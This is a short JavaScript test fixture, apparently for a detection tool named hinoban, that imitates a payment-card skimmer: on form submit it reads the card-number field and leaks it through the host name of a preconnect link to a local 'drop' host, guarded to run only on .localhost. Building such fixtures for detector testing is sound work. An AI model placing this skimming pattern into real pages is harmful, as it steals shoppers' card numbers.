/* Harmless imitation, for hinoban's tests: host name as the carrier: DNS prefetch and preconnect. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
document.addEventListener('submit', function (e) { var n = e.target.querySelector('input[autocomplete=cc-number]'); if (n) { 
		var l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://x' + n.value + '.drop.localhost:' + location.port;
		document.head.appendChild(l);
	 } }, true);
